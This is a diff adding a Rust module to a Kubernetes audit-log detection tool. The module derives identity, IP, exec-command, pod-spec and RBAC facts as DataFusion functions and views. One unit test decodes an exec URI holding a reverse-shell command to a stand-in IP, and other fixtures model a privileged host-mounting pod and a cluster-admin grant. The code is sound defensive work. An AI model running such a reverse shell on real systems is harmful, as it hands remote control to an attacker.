@@ -1,0 +1,433 @@
+//! Shared facts every detection rule reads, derived once here instead of in each rule: identity
+//! class, source-IP class, the exec command decoded from the request URI, pod-spec facts and RBAC
+//! facts from request bodies. Registered as UDFs plus views over `audit_events`.
+
+use std::net::IpAddr;
+use std::sync::Arc;
+
+use datafusion::arrow::array::{
+    Array, ArrayRef, AsArray, BooleanBuilder, ListBuilder, StringArray, StringBuilder, StructArray,
+};
+use datafusion::arrow::datatypes::{DataType, Field, Fields};
+use datafusion::common::cast::as_string_array;
+use datafusion::error::Result as DfResult;
+use datafusion::logical_expr::{ColumnarValue, Volatility, create_udf};
+use datafusion::prelude::SessionContext;
+use percent_encoding::percent_decode_str;
+use serde_json::Value;
+
+use crate::normalize::schema::AUDIT_EVENTS_TABLE;
+
+/// Managed-service identities of EKS and AKS that act on every cluster.
+pub const CLOUD_SYSTEM_USERS: &[&str] = &["aksService", "masterclient", "hcpService", "nodeclient", "acsService", "aks-service", "readinessChecker"];
+
+/// Identity class of a user: `anonymous`, `node`, `service_account`, `system_component`,
+/// `cloud_system` (EKS `eks:*`, AKS managed identities, AWS service roles) or `human`.
+pub fn identity_class(user: Option<&str>, groups: &[&str]) -> &'static str {
+    let Some(u) = user.filter(|u| !u.is_empty()) else { return "anonymous" };
+    if u == "system:anonymous" || groups.contains(&"system:unauthenticated") {
+        "anonymous"
+    } else if u.starts_with("system:node:") || groups.contains(&"system:nodes") {
+        "node"
+    } else if u.starts_with("system:serviceaccount:") {
+        "service_account"
+    } else if u.starts_with("eks:") || u.starts_with("aks:") || CLOUD_SYSTEM_USERS.contains(&u) || u.contains(":role/aws-service-role/") || u.contains(":assumed-role/AWSServiceRoleForAmazonEKS") {
+        "cloud_system"
+    } else if u.starts_with("system:") {
+        "system_component"
+    } else {
+        "human"
+    }
+}
+
+/// Class of an IP address: `loopback`, `private` (RFC 1918, CGNAT, link-local, ULA), `public`
+/// or `invalid`.
+pub fn ip_class(ip: &str) -> &'static str {
+    match ip.trim().parse::<IpAddr>() {
+        Err(_) => "invalid",
+        Ok(IpAddr::V4(v4)) => {
+            let o = v4.octets();
+            if v4.is_loopback() {
+                "loopback"
+            } else if v4.is_private() || v4.is_link_local() || (o[0] == 100 && (64..128).contains(&o[1])) || v4.is_unspecified() {
+                "private"
+            } else {
+                "public"
+            }
+        }
+        Ok(IpAddr::V6(v6)) => {
+            let first = v6.segments()[0];
+            if v6.is_loopback() {
+                "loopback"
+            } else if let Some(v4) = v6.to_ipv4_mapped() {
+                ip_class(&v4.to_string())
+            } else if (first & 0xfe00) == 0xfc00 || (first & 0xffc0) == 0xfe80 || v6.is_unspecified() {
+                "private"
+            } else {
+                "public"
+            }
+        }
+    }
+}
+
+/// The command of an exec/attach request: every `command=` parameter of the URI, URL-decoded
+/// (`+` is a space), joined with spaces. `None` when the URI has none.
+pub fn exec_command(uri: &str) -> Option<String> {
+    let query = uri.split_once('?')?.1;
+    let parts: Vec<String> = query
+        .split('&')
+        .filter_map(|p| p.strip_prefix("command="))
+        .map(|v| percent_decode_str(&v.replace('+', " ")).decode_utf8_lossy().into_owned())
+        .collect();
+    (!parts.is_empty()).then(|| parts.join(" "))
+}
+
+/// The pod spec inside a Pod or a workload template.
+fn pod_spec(obj: &Value) -> Option<&Value> {
+    let spec = obj.get("spec")?;
+    match obj.get("kind").and_then(Value::as_str) {
+        Some("CronJob") => spec.pointer("/jobTemplate/spec/template/spec"),
+        Some("Pod") | None if spec.get("containers").is_some() => Some(spec),
+        _ => spec.pointer("/template/spec").or_else(|| spec.get("containers").map(|_| spec)),
+    }
+}
+
+/// Pod-spec facts of a request body.
+#[derive(Debug, Default, PartialEq)]
+pub struct PodFacts {
+    pub privileged: bool,
+    pub host_pid: bool,
+    pub host_network: bool,
+    pub host_ipc: bool,
+    pub run_as_root: bool,
+    pub host_paths: Vec<String>,
+    pub added_capabilities: Vec<String>,
+    pub images: Vec<String>,
+    pub service_account: Option<String>,
+}
+
+pub fn pod_facts(body: &str) -> Option<PodFacts> {
+    let v: Value = serde_json::from_str(body).ok()?;
+    let spec = pod_spec(&v)?;
+    let flag = |k: &str| spec.get(k).and_then(Value::as_bool).unwrap_or(false);
+    let mut f = PodFacts {
+        host_pid: flag("hostPID"),
+        host_network: flag("hostNetwork"),
+        host_ipc: flag("hostIPC"),
+        service_account: spec.get("serviceAccountName").or_else(|| spec.get("serviceAccount")).and_then(Value::as_str).map(str::to_owned),
+        ..PodFacts::default()
+    };
+    let root = |sc: Option<&Value>| sc.is_some_and(|sc| sc.get("runAsUser").and_then(Value::as_i64) == Some(0) || sc.get("runAsNonRoot").and_then(Value::as_bool) == Some(false));
+    f.run_as_root = root(spec.get("securityContext"));
+    for list in ["containers", "initContainers", "ephemeralContainers"] {
+        for c in spec.get(list).and_then(Value::as_array).into_iter().flatten() {
+            let sc = c.get("securityContext");
+            f.privileged |= sc.and_then(|s| s.get("privileged")).and_then(Value::as_bool).unwrap_or(false);
+            f.run_as_root |= root(sc);
+            if let Some(img) = c.get("image").and_then(Value::as_str) {
+                f.images.push(img.to_owned());
+            }
+            for cap in sc.and_then(|s| s.pointer("/capabilities/add")).and_then(Value::as_array).into_iter().flatten() {
+                if let Some(cap) = cap.as_str() {
+                    f.added_capabilities.push(cap.trim_start_matches("CAP_").to_uppercase());
+                }
+            }
+        }
+    }
+    for vol in spec.get("volumes").and_then(Value::as_array).into_iter().flatten() {
+        if let Some(p) = vol.pointer("/hostPath/path").and_then(Value::as_str) {
+            f.host_paths.push(p.to_owned());
+        }
+    }
+    Some(f)
+}
+
+/// RBAC facts of a Role/ClusterRole or (Cluster)RoleBinding body.
+#[derive(Debug, Default, PartialEq)]
+pub struct RbacFacts {
+    pub role_ref_kind: Option<String>,
+    pub role_ref_name: Option<String>,
+    /// `Kind:namespace/name` (namespace empty for cluster-scoped subjects).
+    pub subjects: Vec<String>,
+    /// Every (verb, resource) a role grants, as `verb resource` (`* *`, `get secrets`, `create pods/exec`).
+    pub grants: Vec<String>,
+    pub verbs: Vec<String>,
+    pub resources: Vec<String>,
+}
+
+pub fn rbac_facts(body: &str) -> Option<RbacFacts> {
+    let v: Value = serde_json::from_str(body).ok()?;
+    let s = |p: &str| v.pointer(p).and_then(Value::as_str).map(str::to_owned);
+    let mut f = RbacFacts { role_ref_kind: s("/roleRef/kind"), role_ref_name: s("/roleRef/name"), ..RbacFacts::default() };
+    for subj in v.get("subjects").and_then(Value::as_array).into_iter().flatten() {
+        let g = |k: &str| subj.get(k).and_then(Value::as_str).unwrap_or("");
+        f.subjects.push(format!("{}:{}/{}", g("kind"), g("namespace"), g("name")));
+    }
+    let strs = |r: &Value, k: &str| -> Vec<String> { r.get(k).and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str).map(str::to_owned).collect() };
+    for rule in v.get("rules").and_then(Value::as_array).into_iter().flatten() {
+        let (verbs, resources) = (strs(rule, "verbs"), strs(rule, "resources"));
+        for verb in &verbs {
+            for res in &resources {
+                f.grants.push(format!("{verb} {res}"));
+            }
+        }
+        f.verbs.extend(verbs);
+        f.resources.extend(resources);
+    }
+    f.verbs.sort();
+    f.verbs.dedup();
+    f.resources.sort();
+    f.resources.dedup();
+    Some(f)
+}
+
+fn string_list_type() -> DataType {
+    DataType::List(Arc::new(Field::new("item", DataType::Utf8, true)))
+}
+
+fn pod_facts_type() -> DataType {
+    DataType::Struct(Fields::from(vec![
+        Field::new("privileged", DataType::Boolean, true),
+        Field::new("host_pid", DataType::Boolean, true),
+        Field::new("host_network", DataType::Boolean, true),
+        Field::new("host_ipc", DataType::Boolean, true),
+        Field::new("run_as_root", DataType::Boolean, true),
+        Field::new("host_paths", string_list_type(), true),
+        Field::new("added_capabilities", string_list_type(), true),
+        Field::new("images", string_list_type(), true),
+        Field::new("service_account", DataType::Utf8, true),
+    ]))
+}
+
+fn rbac_facts_type() -> DataType {
+    DataType::Struct(Fields::from(vec![
+        Field::new("role_ref_kind", DataType::Utf8, true),
+        Field::new("role_ref_name", DataType::Utf8, true),
+        Field::new("subjects", string_list_type(), true),
+        Field::new("grants", string_list_type(), true),
+        Field::new("verbs", string_list_type(), true),
+        Field::new("resources", string_list_type(), true),
+    ]))
+}
+
+fn arrays(args: &[ColumnarValue]) -> DfResult<Vec<ArrayRef>> {
+    ColumnarValue::values_to_arrays(args)
+}
+
+fn push_list(b: &mut ListBuilder<StringBuilder>, items: &[String], valid: bool) {
+    for i in items {
+        b.values().append_value(i);
+    }
+    b.append(valid);
+}
+
+fn pod_facts_array(bodies: &StringArray) -> DfResult<ArrayRef> {
+    let n = bodies.len();
+    let mut bools: Vec<BooleanBuilder> = (0..5).map(|_| BooleanBuilder::with_capacity(n)).collect();
+    let mut lists: Vec<ListBuilder<StringBuilder>> = (0..3).map(|_| ListBuilder::new(StringBuilder::new())).collect();
+    let mut sa = StringBuilder::new();
+    let mut valid = Vec::with_capacity(n);
+    for i in 0..n {
+        let f = if bodies.is_valid(i) { pod_facts(bodies.value(i)) } else { None };
+        valid.push(f.is_some());
+        let f = f.unwrap_or_default();
+        for (b, v) in bools.iter_mut().zip([f.privileged, f.host_pid, f.host_network, f.host_ipc, f.run_as_root]) {
+            b.append_value(v);
+        }
+        for (b, v) in lists.iter_mut().zip([&f.host_paths, &f.added_capabilities, &f.images]) {
+            push_list(b, v, true);
+        }
+        sa.append_option(f.service_account);
+    }
+    let DataType::Struct(fields) = pod_facts_type() else { unreachable!("pod facts type is a struct") };
+    let mut cols: Vec<ArrayRef> = bools.iter_mut().map(|b| Arc::new(b.finish()) as ArrayRef).collect();
+    cols.extend(lists.iter_mut().map(|b| Arc::new(b.finish()) as ArrayRef));
+    cols.push(Arc::new(sa.finish()));
+    Ok(Arc::new(StructArray::try_new(fields, cols, Some(valid.into()))?))
+}
+
+fn rbac_facts_array(bodies: &StringArray) -> DfResult<ArrayRef> {
+    let n = bodies.len();
+    let (mut kind, mut name) = (StringBuilder::new(), StringBuilder::new());
+    let mut lists: Vec<ListBuilder<StringBuilder>> = (0..4).map(|_| ListBuilder::new(StringBuilder::new())).collect();
+    let mut valid = Vec::with_capacity(n);
+    for i in 0..n {
+        let f = if bodies.is_valid(i) { rbac_facts(bodies.value(i)) } else { None };
+        valid.push(f.is_some());
+        let f = f.unwrap_or_default();
+        kind.append_option(f.role_ref_kind);
+        name.append_option(f.role_ref_name);
+        for (b, v) in lists.iter_mut().zip([&f.subjects, &f.grants, &f.verbs, &f.resources]) {
+            push_list(b, v, true);
+        }
+    }
+    let DataType::Struct(fields) = rbac_facts_type() else { unreachable!("rbac facts type is a struct") };
+    let mut cols: Vec<ArrayRef> = vec![Arc::new(kind.finish()), Arc::new(name.finish())];
+    cols.extend(lists.iter_mut().map(|b| Arc::new(b.finish()) as ArrayRef));
+    Ok(Arc::new(StructArray::try_new(fields, cols, Some(valid.into()))?))
+}
+
+/// Registers the fact UDFs on `ctx`.
+pub fn register_udfs(ctx: &SessionContext) {
+    ctx.register_udf(create_udf(
+        "k8s_identity_class",
+        vec![DataType::Utf8, string_list_type()],
+        DataType::Utf8,
+        Volatility::Immutable,
+        Arc::new(|args| {
+            let a = arrays(args)?;
+            let users = as_string_array(&a[0])?;
+            let groups = a[1].as_list::<i32>();
+            let out: StringArray = (0..users.len())
+                .map(|i| {
+                    let g: Vec<String> = if groups.is_valid(i) {
+                        let vals = groups.value(i);
+                        let s = vals.as_string::<i32>();
+                        s.iter().flatten().map(str::to_owned).collect()
+                    } else {
+                        Vec::new()
+                    };
+                    let g: Vec<&str> = g.iter().map(String::as_str).collect();
+                    Some(identity_class(users.is_valid(i).then(|| users.value(i)), &g))
+                })
+                .collect();
+            Ok(ColumnarValue::Array(Arc::new(out)))
+        }),
+    ));
+    ctx.register_udf(create_udf(
+        "k8s_ip_class",
+        vec![DataType::Utf8],
+        DataType::Utf8,
+        Volatility::Immutable,
+        Arc::new(|args| {
+            let a = arrays(args)?;
+            let ips = as_string_array(&a[0])?;
+            let out: StringArray = ips.iter().map(|ip| ip.map(ip_class)).collect();
+            Ok(ColumnarValue::Array(Arc::new(out)))
+        }),
+    ));
+    ctx.register_udf(create_udf(
+        "k8s_exec_command",
+        vec![DataType::Utf8],
+        DataType::Utf8,
+        Volatility::Immutable,
+        Arc::new(|args| {
+            let a = arrays(args)?;
+            let uris = as_string_array(&a[0])?;
+            let out: StringArray = uris.iter().map(|u| u.and_then(exec_command)).collect();
+            Ok(ColumnarValue::Array(Arc::new(out)))
+        }),
+    ));
+    ctx.register_udf(create_udf(
+        "k8s_pod_facts",
+        vec![DataType::Utf8],
+        pod_facts_type(),
+        Volatility::Immutable,
+        Arc::new(|args| {
+            let a = arrays(args)?;
+            Ok(ColumnarValue::Array(pod_facts_array(as_string_array(&a[0])?)?))
+        }),
+    ));
+    ctx.register_udf(create_udf(
+        "k8s_rbac_facts",
+        vec![DataType::Utf8],
+        rbac_facts_type(),
+        Volatility::Immutable,
+        Arc::new(|args| {
+            let a = arrays(args)?;
+            Ok(ColumnarValue::Array(rbac_facts_array(as_string_array(&a[0])?)?))
+        }),
+    ));
+}
+
+/// The views rules read. Each adds facts to `audit_events` rows; none filters what a rule might need.
+pub const FACT_VIEWS: &[(&str, &str)] = &[
+    (
+        "k8s_events",
+        "SELECT *, user_name AS actor, k8s_identity_class(user_name, user_groups) AS actor_class, \
+         k8s_ip_class(source_ip) AS source_ip_class, \
+         coalesce(response_code BETWEEN 200 AND 399, false) AS succeeded \
+         FROM audit_events",
+    ),
+    (
+        "k8s_exec",
+        "SELECT *, k8s_exec_command(request_uri) AS command FROM k8s_events \
+         WHERE obj_resource = 'pods' AND obj_subresource IN ('exec', 'attach')",
+    ),
+    (
+        "k8s_pod_writes",
+        "SELECT e.*, f.privileged, f.host_pid, f.host_network, f.host_ipc, f.run_as_root, f.host_paths, \
+         f.added_capabilities, f.images, f.service_account FROM ( \
+           SELECT *, k8s_pod_facts(request_object) AS f FROM k8s_events \
+           WHERE obj_resource IN ('pods', 'deployments', 'daemonsets', 'statefulsets', 'replicasets', 'jobs', 'cronjobs') \
+             AND obj_subresource IS NULL AND verb IN ('create', 'update', 'patch') AND request_object IS NOT NULL) e",
+    ),
+    (
+        "k8s_rbac_writes",
+        "SELECT e.*, f.role_ref_kind, f.role_ref_name, f.subjects, f.grants, f.verbs AS rule_verbs, f.resources AS rule_resources FROM ( \
+           SELECT *, k8s_rbac_facts(coalesce(request_object, response_object)) AS f FROM k8s_events \
+           WHERE obj_resource IN ('roles', 'clusterroles', 'rolebindings', 'clusterrolebindings')) e",
+    ),
+];
+
+/// Registers the UDFs and the fact views over the session's `audit_events`.
+pub async fn register(ctx: &SessionContext) -> crate::Result<()> {
+    register_udfs(ctx);
+    debug_assert!(FACT_VIEWS.iter().all(|(_, sql)| sql.contains(AUDIT_EVENTS_TABLE) || sql.contains("k8s_events")));
+    for (name, sql) in FACT_VIEWS {
+        let view = ctx.sql(sql).await?.into_view();
+        ctx.register_table(*name, view)?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn identity_classes() {
+        assert_eq!(identity_class(Some("system:anonymous"), &[]), "anonymous");
+        assert_eq!(identity_class(None, &[]), "anonymous");
+        assert_eq!(identity_class(Some("system:node:ip-10-0-0-1"), &["system:nodes"]), "node");
+        assert_eq!(identity_class(Some("system:serviceaccount:kube-system:coredns"), &[]), "service_account");
+        assert_eq!(identity_class(Some("system:kube-controller-manager"), &[]), "system_component");
+        assert_eq!(identity_class(Some("eks:node-manager"), &[]), "cloud_system");
+        assert_eq!(identity_class(Some("aksService"), &[]), "cloud_system");
+        assert_eq!(identity_class(Some("alice@example.com"), &["system:authenticated"]), "human");
+    }
+
+    #[test]
+    fn ip_classes() {
+        assert_eq!(ip_class("127.0.0.1"), "loopback");
+        assert_eq!(ip_class("10.1.2.3"), "private");
+        assert_eq!(ip_class("100.64.0.1"), "private");
+        assert_eq!(ip_class("169.254.169.254"), "private");
+        assert_eq!(ip_class("185.220.101.4"), "public");
+        assert_eq!(ip_class("fd00::1"), "private");
+        assert_eq!(ip_class("2001:db8::1"), "public");
+        assert_eq!(ip_class("12.000.22.33"), "invalid");
+    }
+
+    #[test]
+    fn exec_commands_are_decoded() {
+        let uri = "/api/v1/namespaces/default/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4444+0%3E%261&container=web&stdin=true";
+        assert_eq!(exec_command(uri).as_deref(), Some("bash -c bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
+        assert_eq!(exec_command("/api/v1/pods"), None);
+    }
+
+    #[test]
+    fn pod_and_rbac_facts() {
+        let pod = r#"{"kind":"Deployment","spec":{"template":{"spec":{"hostPID":true,"volumes":[{"hostPath":{"path":"/"}}],"containers":[{"image":"a"},{"image":"b","securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN"]}}}]}}}}"#;
+        let f = pod_facts(pod).unwrap();
+        assert!(f.privileged && f.host_pid && !f.host_network);
+        assert_eq!(f.host_paths, ["/"]);
+        assert_eq!(f.added_capabilities, ["SYS_ADMIN"]);
+        assert_eq!(f.images, ["a", "b"]);
+        let role = r#"{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"eve"}],"rules":[{"verbs":["get","list"],"resources":["secrets"]}]}"#;
+        let r = rbac_facts(role).unwrap();
+        assert_eq!(r.role_ref_name.as_deref(), Some("cluster-admin"));
+        assert_eq!(r.subjects, ["User:/eve"]);
+        assert_eq!(r.grants, ["get secrets", "list secrets"]);
+    }
+}
